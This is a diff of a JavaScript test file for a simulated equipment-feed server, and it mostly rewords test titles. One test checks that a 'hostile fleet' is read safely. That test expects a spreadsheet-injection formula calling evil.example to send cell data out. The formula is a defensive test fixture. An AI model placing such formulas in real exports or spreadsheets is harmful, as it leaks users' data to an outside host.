@@ -15,7 +15,7 @@ afterAll(async () => {
 
 const read = () => feed.readPage({ oem: 'other', credentials: feeds.credentials.other }, null)
 
-test('every app of the catalogue has played credentials for what its form requires', () => {
+test('every app of the catalogue has simulated credentials for what its form requires', () => {
   const asked = feed.catalogue.flatMap(({ oem, fields }) =>
     fields.filter(one => one.required).map(({ id }) => ({ oem, id })),
   )
@@ -23,7 +23,7 @@ test('every app of the catalogue has played credentials for what its form requir
   expect(asked.filter(({ oem, id }) => !feeds.credentials[oem][id])).toEqual([])
 })
 
-test('the same seed makes the same fleet, and every machine is another', async () => {
+test('the same seed makes the same fleet, and every machine is different', async () => {
   const again = await startFeeds({ now: () => new Date(0) })
   const first = again.plain.fleet.add(500)
   await again.close()
@@ -46,7 +46,7 @@ test('a fleet grows, shrinks and works', async () => {
   expect(await read()).toMatchObject({ kind: 'page', equipment: [] })
 })
 
-test('a hostile fleet is read without harm and every oddity told', async () => {
+test('a hostile fleet is read without harm, and every oddity is reported', async () => {
   feeds.plain.fleet.setFleet([])
   const machines = feeds.plain.fleet.add(100, { hostile: true })
   const answer = await read()
@@ -60,7 +60,7 @@ test('a hostile fleet is read without harm and every oddity told', async () => {
   expect(texts).toContain('=HYPERLINK("http://evil.example/?c="&A1,"Click")')
 })
 
-test('a held request hangs until it is let go', async () => {
+test('a held request hangs until it is released', async () => {
   feeds.plain.forgetRequests()
   feeds.plain.hold()
   let answered = false
@@ -79,7 +79,7 @@ test('a throttle can last for some requests only', async () => {
   expect([(await read()).kind, (await read()).kind, (await read()).kind]).toEqual(['throttled', 'throttled', 'page'])
 })
 
-test('what was asked is recorded without secrets', async () => {
+test('requests are recorded without secrets', async () => {
   feeds.caterpillar.forgetRequests()
   await feed.readPage({ oem: 'caterpillar', credentials: feeds.credentials.caterpillar }, null)
   expect(feeds.caterpillar.requests).toMatchObject([
@@ -89,7 +89,7 @@ test('what was asked is recorded without secrets', async () => {
   expect(JSON.stringify(feeds.caterpillar.requests)).not.toContain('7Q')
 })
 
-test('it can start again on its port', async () => {
+test('the server can start again on its port', async () => {
   const one = await startFeeds()
   await one.close()
   const two = await startFeeds({ port: one.port })
